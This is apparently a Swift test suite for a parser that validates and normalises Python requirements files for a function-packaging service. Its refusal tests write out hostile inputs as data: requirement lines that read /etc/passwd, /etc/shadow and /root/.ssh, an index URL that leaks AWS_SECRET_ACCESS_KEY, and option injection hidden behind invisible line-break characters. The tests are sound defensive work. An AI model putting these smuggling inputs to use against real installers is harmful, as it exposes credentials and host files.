import Testing

@testable import FunctionPackages

@Suite struct RequirementsTests {
    private let target = PythonTarget.runner

    @Test func orderCommentsCaseAndWhitespaceDoNotChangeTheKey() throws {
        let first = try Requirements(parsing: "numpy>=1.26,<3\nRequests[socks,security] == 2.32.3\n")
        let second = try Requirements(
            parsing: """
                # the numerics
                requests [ Security , SOCKS ]==2.32.3   # pinned

                \tNumPy <3 , >=1.26
                numpy>=1.26,<3
                """)
        #expect(first.requirements == ["numpy<3,>=1.26", "requests[security,socks]==2.32.3"])
        #expect(second.requirements == first.requirements)
        #expect(first.key(for: target) == second.key(for: target))
        #expect(first.names == ["numpy", "requests"])
        #expect(try Requirements(parsing: "Zope.Interface\n").requirements == ["zope-interface"], "PEP 503 names")
        // A byte order mark, as Windows editors write one, is not part of the first name.
        #expect(try Requirements(bytes: [0xEF, 0xBB, 0xBF] + Array("six==1.16.0\n".utf8)).requirements == ["six==1.16.0"])
        #expect(try Requirements(parsing: "\u{FEFF}six==1.16.0").requirements == ["six==1.16.0"])
    }

    @Test func optionsAndTheTargetAreInTheKey() throws {
        let plain = try Requirements(parsing: "six\n")
        let mirrored = try Requirements(parsing: "--index-url https://mirror.example/simple\nsix\n")
        let equals = try Requirements(parsing: "six\n-i   https://mirror.example/simple\n")
        #expect(mirrored.options == ["--index-url https://mirror.example/simple"])
        #expect(equals.key(for: target) == mirrored.key(for: target), "-i and --index-url are the same option")
        #expect(plain.key(for: target) != mirrored.key(for: target))
        var other = target
        other.pythonMinor = 12
        #expect(plain.key(for: target) != plain.key(for: other))
        let both = try Requirements(
            parsing: "--extra-index-url=https://a.example/simple\n--find-links https://c.example/wheels\n-f https://b.example/wheels\n--no-index\nsix\n")
        #expect(both.extraIndexURLs == ["https://a.example/simple"])
        #expect(both.findLinks == ["https://c.example/wheels", "https://b.example/wheels"])
        #expect(both.noIndex)
        #expect(both.normalizedText.hasPrefix("--extra-index-url https://a.example/simple\n--find-links https://c.example/wheels\n"))
    }

    @Test func markersUrlsHashesAndContinuations() throws {
        let requirements = try Requirements(
            parsing: """
                tomli ; python_version < "3.11"
                pkg @ https://example.com/pkg-1.0-py3-none-any.whl ; sys_platform == "linux"
                six==1.16.0 \\
                    --hash=sha256:8ABC --hash=sha256:1def
                """)
        #expect(
            requirements.requirements == [
                "pkg @ https://example.com/pkg-1.0-py3-none-any.whl ; sys_platform == \"linux\"",
                "six==1.16.0 --hash=sha256:1def --hash=sha256:8abc",
                "tomli; python_version < \"3.11\"",
            ])
        #expect(requirements.names == ["pkg", "six", "tomli"])
    }

    @Test func whatCouldReadTheHostOrBuildFromSourceIsRefused() {
        let refused: [(String, (RequirementsError) -> Bool)] = [
            ("-r other.txt", { if case .unsupportedOption(1, "-r", _) = $0 { true } else { false } }),
            ("--requirement=other.txt", { if case .unsupportedOption(1, "--requirement", _) = $0 { true } else { false } }),
            ("six\n-c constraints.txt", { if case .unsupportedOption(2, "-c", _) = $0 { true } else { false } }),
            ("-e git+https://github.com/x/y", { if case .unsupportedOption(1, "-e", _) = $0 { true } else { false } }),
            ("--no-binary :all:", { if case .unsupportedOption(1, "--no-binary", _) = $0 { true } else { false } }),
            ("--trusted-host example.com", { if case .unsupportedOption(1, "--trusted-host", _) = $0 { true } else { false } }),
            ("./local/dir", { if case .invalidRequirement(1, _, _) = $0 { true } else { false } }),
            ("/abs/pkg-1.0-py3-none-any.whl", { if case .invalidRequirement = $0 { true } else { false } }),
            ("pkg-1.0-py3-none-any.whl", { if case .invalidRequirement = $0 { true } else { false } }),
            ("https://example.com/x.whl", { if case .invalidRequirement = $0 { true } else { false } }),
            ("pkg @ file:///etc/passwd", { if case .invalidRequirement = $0 { true } else { false } }),
            ("--index-url https://example.com/${AWS_SECRET_ACCESS_KEY}/simple", { if case .invalidRequirement = $0 { true } else { false } }),
            ("--find-links relative/dir", { if case .invalidRequirement = $0 { true } else { false } }),
            ("--find-links /root/.ssh", { if case .invalidRequirement = $0 { true } else { false } }),
            ("--index-url file:///srv/index", { if case .invalidRequirement = $0 { true } else { false } }),
            ("six --install-option=--prefix=/", { if case .unsupportedOption(1, "--install-option=--prefix=/", _) = $0 { true } else { false } }),
            ("numpy=1.0", { if case .invalidRequirement = $0 { true } else { false } }),
            ("numpy[", { if case .invalidRequirement = $0 { true } else { false } }),
        ]
        for (text, matches) in refused {
            do {
                _ = try Requirements(parsing: text)
                Issue.record("accepted \(text)")
            } catch {
                #expect(matches(error), "\(text): \(error)")
                #expect(error.description.contains("line"), "the message names the line: \(error)")
            }
        }
        for vcs in ["git+https://github.com/foo/bar.git#egg=bar", "Git+ssh://git@host/x", "hg+https://host/x", "svn+https://host/x"] {
            do {
                _ = try Requirements(parsing: vcs)
                Issue.record("accepted \(vcs)")
            } catch {
                #expect(error.description.contains("version-control URLs"), "\(vcs): \(error)")
            }
        }
        #expect(throws: RequirementsError.tooLarge(bytes: 11, limit: 10)) { try Requirements(bytes: Array("numpy\nsix\n\n".utf8), limit: 10) }
        #expect(throws: RequirementsError.notUTF8) { try Requirements(bytes: [0xff, 0x0a]) }
    }

    /// pip and uv break lines at more than `\n`: a lone `\r` (both), `\v`, `\f`, `\x1c`-`\x1e`,
    /// U+0085, U+2028, U+2029 (pip). Inside a line, even a comment, one would start a line that was
    /// never checked, such as `--no-binary six`, which has the host build a package from source.
    @Test func lineBreaksWithinALineAreRefused() throws {
        for separator in ["\r", "\u{0B}", "\u{0C}", "\u{1C}", "\u{1D}", "\u{1E}", "\u{85}", "\u{2028}", "\u{2029}", "\u{0}", "\u{7F}"] {
            for text in [
                "six; python_version > \"3\"\(separator)--no-binary six\n",
                "numpy\nsix # pinned later\(separator)-r /etc/shadow\n",
                "six @ https://example.com/six.whl\(separator)--index-url http://127.0.0.1:1/simple\n",
            ] {
                do {
                    _ = try Requirements(parsing: text)
                    Issue.record("accepted \(text.debugDescription)")
                } catch {
                    guard case .invalidRequirement(let line, _, let reason) = error else {
                        Issue.record("\(text.debugDescription): \(error)")
                        continue
                    }
                    #expect(line == (text.hasPrefix("numpy") ? 2 : 1) && reason.contains("line break"), "\(error)")
                }
            }
        }
        // uv ends a requirement at the first blank before `--`, reads a blank and `-` as an option
        // and a blank and `#` as a comment: none of that may hide inside a requirement (a hostile
        // review had uv read `-r=FILE` from behind a tab).
        for text in [
            "six; python_version>\"3\"\t--hash=sha256:00\t-r=/tmp/secret.txt# --hash=sha256:00",
            "six; python_version>\"3\"\t--index-url=http://127.0.0.1:9/simple --hash=sha256:00",
            "six; python_version > \"3\" -r=/etc/shadow",
            "six; extra == \"a\" \\ ",
            // A prepend character joins the space after it into one Character, hiding the blank.
            "six; python_version>\"0\"\u{0600} -r /etc/shadow",
            // pip builds an sdist named by URL, and reads these versions as local archives.
            "evil @ http://127.0.0.1:9/evil-1.0.tar.gz",
            "six==1.0.zip",
            "six>=1.tar.gz",
            "six==1.0+abc.tar.gz",
        ] {
            #expect(throws: RequirementsError.self, "\(text.debugDescription)") { try Requirements(parsing: text) }
        }
        #expect(try Requirements(parsing: "six @ https://example.com/six-1.16.0-py2.py3-none-any.whl#sha256=ab\n").requirements.count == 1)
        // Windows line ends and tabs are fine.
        #expect(try Requirements(parsing: "numpy\r\nsix\t# pinned\r\n").requirements == ["numpy", "six"])
    }

    @Test func emptyRequirementsNeedNoSet() throws {
        #expect(try Requirements(parsing: "# nothing\n\n   \n").isEmpty)
    }

    @Test func keysAreSafePathComponents() {
        #expect(DependencySetKey(String(repeating: "a", count: 64)) != nil)
        #expect(DependencySetKey("../" + String(repeating: "a", count: 61)) == nil)
        #expect(DependencySetKey(String(repeating: "A", count: 64)) == nil)
        #expect(DependencySetKey("abc") == nil)
    }

    @Test func wheelTagsAreCheckedAgainstTheRunner() {
        let accepted = [
            "cp311-cp311-manylinux_2_17_x86_64", "cp311-cp311-manylinux_2_36_x86_64", "cp311-cp311-manylinux2014_x86_64",
            "cp38-abi3-manylinux_2_28_x86_64", "py3-none-any", "py2.py3-none-any", "cp311-cp311-manylinux_2_5_x86_64.manylinux1_x86_64",
            "cp311-none-any", "py311-none-any",
        ]
        let refused = [
            "cp312-cp312-manylinux_2_17_x86_64", "cp311-cp311-manylinux_2_38_x86_64", "cp311-cp311-musllinux_1_1_x86_64",
            "cp311-cp311-linux_x86_64", "cp311-cp311-manylinux_2_17_aarch64", "cp311-cp311-macosx_11_0_arm64",
            "cp310-cp310-manylinux_2_17_x86_64", "cp312-abi3-manylinux_2_17_x86_64", "py2-none-any", "pp310-pypy310_pp73-manylinux_2_17_x86_64",
            "cp311-cp311", "garbage",
        ]
        for tag in accepted { #expect(PythonTarget.runner.accepts(wheelTag: tag), "\(tag)") }
        for tag in refused { #expect(!PythonTarget.runner.accepts(wheelTag: tag), "\(tag)") }
        #expect(PythonTarget.runner.pythonTag == "cp311")
        #expect(PythonTarget.runner.platformTag == "manylinux_2_36_x86_64")
        #expect(PythonTarget.runner.uvPlatform == "x86_64-manylinux_2_36")
        #expect(PythonTarget.runner.pipPlatforms.first == "manylinux_2_36_x86_64")
        #expect(PythonTarget.runner.pipPlatforms.contains("manylinux2014_x86_64"))
    }
}
